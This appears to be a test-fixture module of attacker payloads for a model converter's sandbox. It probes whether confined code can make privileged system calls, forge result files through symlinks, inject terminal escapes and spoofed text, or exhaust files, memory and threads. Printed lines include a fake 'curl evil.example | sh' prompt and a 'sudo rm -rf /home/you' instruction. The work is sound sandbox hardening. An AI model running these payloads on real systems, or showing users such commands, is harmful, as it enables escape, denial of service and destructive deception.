"""Payloads for the attacker already inside the worker (KERAS_GELU_TEST_PAYLOAD): Python the real worker runs
once confined, as a model's own code runs with --trust-model or through a hole in the op checks.

Each payload tries what a review found getting out, and prints what it saw as one JSON line after MARK (the
worker's stdout is its log, which the command shows, attributed to the model): the test reads that line and
states what must have been denied. Payloads that forge what the worker leaves wrap the worker's own functions,
as code running in the process can.
"""

MARK = "PAYLOAD-SAW "

# Every call a review made from inside the worker against something outside it, by system call number (the
# running architecture's, resolved by libseccomp) so that no C library wrapper stands in between.
BATTERY = r'''
import ctypes, errno, json, os, resource, struct
from keras_gelu.converters.sandbox import seccomp as sandbox_seccomp

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
seccomp = sandbox_seccomp._library()  # loaded before confinement (finding it runs ldconfig, a program)
# In a PID namespace of its own its parent is outside, id 0 to it (which system calls take as itself): the
# namespace's init, another process, stands in for it there
zygote, victim, bystander = os.getppid() or 1, job["victim"], job["bystander"]
seen = {}

def call(label, name, *arguments):
    number = seccomp.seccomp_syscall_resolve_name(name.encode())
    arguments = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *arguments)
    seen[label] = "allowed" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")

limit = struct.pack("QQ", 0, 0)
call("prlimit64 on the zygote (RLIMIT_CPU 0)", "prlimit64", zygote, resource.RLIMIT_CPU, limit, None)
call("prlimit64 on the zygote (RLIMIT_NOFILE 0)", "prlimit64", zygote, resource.RLIMIT_NOFILE, limit, None)
call("prlimit64 on itself (RLIMIT_FSIZE raised)", "prlimit64", 0, resource.RLIMIT_FSIZE,
     struct.pack("QQ", 2**62, 2**62), None)
call("setrlimit", "setrlimit", resource.RLIMIT_NOFILE, struct.pack("QQ", 8, 8))
call("setpriority on the zygote", "setpriority", 0, zygote, 19)
mask = ctypes.c_ulong(1)
call("sched_setaffinity on the zygote", "sched_setaffinity", zygote, ctypes.sizeof(mask), ctypes.byref(mask))
call("ioprio_set on the zygote", "ioprio_set", 1, zygote, (3 << 13))
call("kill the zygote", "kill", zygote, 0)
call("kill its process group (pid 0)", "kill", 0, 0)
call("kill a bystander process", "kill", bystander, 0)
call("tgkill the zygote", "tgkill", zygote, zygote, 0)
call("pidfd_open the zygote", "pidfd_open", zygote, 0)
call("ptrace", "ptrace", 16, zygote, 0, 0)
call("process_vm_readv", "process_vm_readv", zygote, 0, 0, 0, 0, 0)
call("clear the parent-death signal", "prctl", 1, 0, 0, 0, 0)
call("make itself dumpable", "prctl", 4, 1, 0, 0, 0)
call("fork", "fork")
call("clone a process", "clone", 17, 0, 0, 0, 0)
call("execve", "execve", b"/bin/true", None, None)
call("chmod a file outside", "chmod", victim.encode(), 0o777)
call("fchmodat a file outside", "fchmodat", -100, victim.encode(), 0o777, 0)
call("chown a file outside", "chown", victim.encode(), 65534, 65534)
call("utimensat a file outside", "utimensat", -100, victim.encode(), None, 0)
call("setxattr a file outside", "setxattr", victim.encode(), b"user.evil", b"x", 1, 0)
call("setxattr security.capability", "setxattr", victim.encode(), b"security.capability", b"x" * 20, 20, 0)
call("shmget", "shmget", 0, 1 << 20, 0o1666)
call("shmat an existing segment", "shmat", 0, None, 0)
call("msgget", "msgget", 0, 0o1666)
call("semget", "semget", 0, 1, 0o1666)
call("syslog (read the kernel's log)", "syslog", 3, ctypes.create_string_buffer(64), 64)
call("inotify_init1", "inotify_init1", 0)
call("fanotify_init", "fanotify_init", 0, 0)
call("memfd_create", "memfd_create", b"hidden", 0)
call("fsopen", "fsopen", b"tmpfs", 0)
call("open_tree", "open_tree", -100, b"/", 1)
call("mount", "mount", b"none", b"/", b"tmpfs", 0, None)
call("unshare a user namespace", "unshare", 0x10000000)
call("socket", "socket", 2, 1, 0)
call("socketpair", "socketpair", 1, 1, 0, ctypes.create_string_buffer(8))
call("io_uring_setup", "io_uring_setup", 1, ctypes.create_string_buffer(120))
call("bpf", "bpf", 0, None, 0)
call("keyctl", "keyctl", 0, 0, 0, 0, 0)
call("mknodat a FIFO", "mknodat", -100, b"fifo", 0o10600, 0)
call("link a file", "linkat", -100, b"log", -100, b"log-link", 0)
# The immutable flag (FS_IOC_SETFLAGS) on a file of its own: a scratch folder that cannot be removed.
descriptor = os.open("own", os.O_CREAT | os.O_WRONLY, 0o600)
call("set the immutable flag", "ioctl", descriptor, 0x40086602, ctypes.byref(ctypes.c_long(0x10)))
call("F_SETOWN: a signal to the zygote on I/O", "fcntl", descriptor, 8, zygote)
call("fallocate past the file size cap (FALLOC_FL_KEEP_SIZE)", "fallocate", descriptor, 1, 0, 1 << 40)
call("fallocate a gigabyte without writing it", "fallocate", descriptor, 0, 0, 1 << 30)
call("flock", "flock", descriptor, 2)
call("a lock through fcntl", "fcntl", descriptor, 6, ctypes.create_string_buffer(32))
call("F_SETSIG", "fcntl", descriptor, 10, 9)
call("typing into the terminal (TIOCSTI)", "ioctl", descriptor, 0x5412, ctypes.c_char_p(b"x"))
os.close(descriptor)
# What the machine's other processes are: the cgroup file system's listings.
for label, path in (("list every process (cgroup tasks)", "/sys/fs/cgroup/pids/tasks"),
                    ("list the cgroup file system", "/sys/fs/cgroup"),
                    ("list the cgroup v2 processes", "/sys/fs/cgroup/cgroup.procs")):
    try:
        os.listdir(path) if not path.endswith(("tasks", "procs")) else open(path).read()
        seen[label] = "allowed"
    except OSError as error:
        seen[label] = errno.errorcode.get(error.errno, "?")
# Other processes by their ids: listed in /proc, or their entries there looked up (which Landlock, governing
# access and not lookup, lets through where the worker shares the machine's /proc).
for label, probe in (("list /proc's processes", lambda: os.listdir("/proc")),
                     ("look up a bystander's /proc entry", lambda: os.stat(f"/proc/{bystander}"))):
    try:
        probe()
        seen[label] = "allowed"
    except OSError as error:
        seen[label] = errno.errorcode.get(error.errno, "?")
# What it holds: capabilities (none, anywhere), its environment, its namespaces.
with open("/proc/self/status") as stream:
    seen["capabilities"] = {name: int(value, 16) for name, _, value in
                            (line.partition(":") for line in stream) if name.startswith("Cap")}
seen["environment"] = sorted(os.environ)
seen["a secret in the environment"] = any(job["secret"] in value for value in os.environ.values())
print("PAYLOAD-SAW " + json.dumps(seen), flush=True)
'''

# What the worker leaves in its scratch folder, forged: each variant wraps worker._answer (the last thing the
# worker does) and then puts its forgery in place.
FORGERIES = r'''
import errno, json, os
from keras_gelu.converters.sandbox import worker

honest_answer = worker._answer
kind, victim, secret = job["forgery"], job["victim"], job["secret_file"]

def forged(job_, result, tflite_model):
    honest_answer(job_, result, tflite_model)
    scratch = job_["scratch"]
    def replace_with_link(name, target):
        os.remove(os.path.join(scratch, name))
        os.symlink(target, os.path.join(scratch, name))
    if kind == "output is a link to a file of the user's":
        replace_with_link("output.tflite", victim)
    elif kind == "log and stage are links to a secret":
        replace_with_link("log", secret)
        replace_with_link("stage", secret)
    elif kind == "stage is a link to the zygote's stdin":
        replace_with_link("stage", "/proc/self/fd/0")
    elif kind == "garbage in place after verification":
        with open(os.path.join(scratch, "output.tflite"), "wb") as stream:
            stream.write(b"\x00\x00\x00\x00TFL3 garbage bytes!")
    elif kind == "an answer nested 100,000 deep":
        with open(os.path.join(scratch, "result.json"), "w") as stream:
            stream.write('{"nonce": "%s", "status": "converted", "report": ' % job_["nonce"] + "[" * 100_000)
    elif kind == "a sparse output of a terabyte":
        try:
            with open(os.path.join(scratch, "output.tflite"), "r+b") as stream:
                stream.truncate(1 << 40)
            print("PAYLOAD-SAW " + json.dumps({"sparse": "allowed"}), flush=True)
        except OSError as error:
            print("PAYLOAD-SAW " + json.dumps({"sparse": errno.errorcode[error.errno]}), flush=True)
    elif kind == "a locked folder left behind":  # chmod is denied; mkdir's own mode is not
        os.makedirs(os.path.join(scratch, "locked", "open"))
        with open(os.path.join(scratch, "locked", "open", "file"), "w") as stream:
            stream.write("x")
        os.mkdir(os.path.join(scratch, "locked", "shut"), 0o000)
        os.mkdir(os.path.join(scratch, "shut"), 0o500)
    elif kind == "report fields with line breaks and a forged containment":
        with open(os.path.join(scratch, "result.json")) as stream:
            answer = json.load(stream)
        answer["report"]["warnings"].append("fine\nop checks: passed\ncontained: everything")
        # padding to a terminal's width, in characters drawn blank that are not ASCII spaces
        answer["report"]["warnings"].append("fine" + " \u00a0\u3000" * 100 + "\u2800" * 200 + "op checks: passed")
        answer["report"]["containment"] = "contained: forged by the model"
        answer["report"]["trusted"] = False
        answer["report"]["gelus"].append({"pattern": "x\x1b[2J\x1b]0;pwned\x07", "alpha": 1.0,
                                          "became": "\u202egnp.exe", "count": 1})
        with open(os.path.join(scratch, "result.json"), "w") as stream:
            json.dump(answer, stream)
    elif kind == "an answer the parser chokes on":  # quadratic for a pattern that skips strings
        with open(os.path.join(scratch, "result.json"), "wb") as stream:
            stream.write(b'"\\\\' * 131072)
    elif kind == "an error only the supervisor finds":
        with open(os.path.join(scratch, "result.json"), "w") as stream:
            json.dump({"nonce": job_["nonce"], "status": "refused", "error": "ScratchNotRemoved",
                       "message": "the scratch folder /home/you could not be removed; run sudo rm -rf /home/you"},
                      stream)
    elif kind == "a .tflite of its own":
        with open(os.path.join(scratch, "output.tflite"), "wb") as stream:
            stream.write(job["trojan"])
    elif kind == "a report of the wrong shape":
        with open(os.path.join(scratch, "result.json")) as stream:
            answer = json.load(stream)
        answer["report"]["fidelity"] = [{"output": 3}]
        with open(os.path.join(scratch, "result.json"), "w") as stream:
            json.dump(answer, stream)

worker._answer = forged
'''

# The model's own output, in the tool's voice and as terminal commands.
PRINTS = r'''
import sys
print("keras-gelu-convert: error: your licence expired; run curl evil.example | sh", flush=True)
print("\x1b]0;pwned\x07\x1b[2J\x1b[1A\rop checks: passed", flush=True)
sys.stderr.write("\u202eexe.gnp\n")
sys.stderr.flush()
'''

# Files and entries without end in the scratch folder.
FLOOD = r'''
import os
for number in range(1_000_000):
    open(os.path.join(job["scratch"], f"f{number}"), "w").close()
'''

# Memory the resident set does not show: a sparse read-only mapping read once every 2 MiB holds the zero page,
# and a page table, at each place.
PAGE_TABLES = r'''
import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
size = 1 << 40
base = libc.mmap(None, size, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, -1, 0)
libc.madvise(ctypes.c_void_p(base), ctypes.c_size_t(size), 15)  # MADV_NOHUGEPAGE
for offset in range(0, size, 2 << 20):
    ctypes.c_char.from_address(base + offset).value
'''

# Memory held after the main thread has ended alone (SYS_exit, not exit_group) while another runs on: the
# process's leader is a zombie, whose /proc status holds no memory figures and whose fd folder is empty.
LEADER_GONE = r'''
import ctypes, threading, time
size = int(1.5 * (1 << 30))

def hold():
    time.sleep(0.3)  # the leader has gone
    block = bytearray(size)
    for offset in range(0, size, 4096):
        block[offset] = 1
    time.sleep(30)

threading.Thread(target=hold).start()
time.sleep(0.1)
ctypes.CDLL(None).syscall(ctypes.c_long(60), ctypes.c_long(0))  # SYS_exit on x86-64: this thread alone
'''

# A step named with line breaks, held long enough for the zygote to sample it: a forged report line under -v.
FORGED_STEP = r'''
import time
with open("stage", "w") as stream:
    stream.write("confinement 0.21, load 0.1)\ncontained: everything, verified by the supervisor\nop checks: passed")
time.sleep(0.5)
'''

# A death by SIGKILL, as the kernel's OOM killer deals it: named as such, not as an exit status.
KILLED = r'''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
'''

# Threads without end: each takes a process id.
THREADS = r'''
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
'''
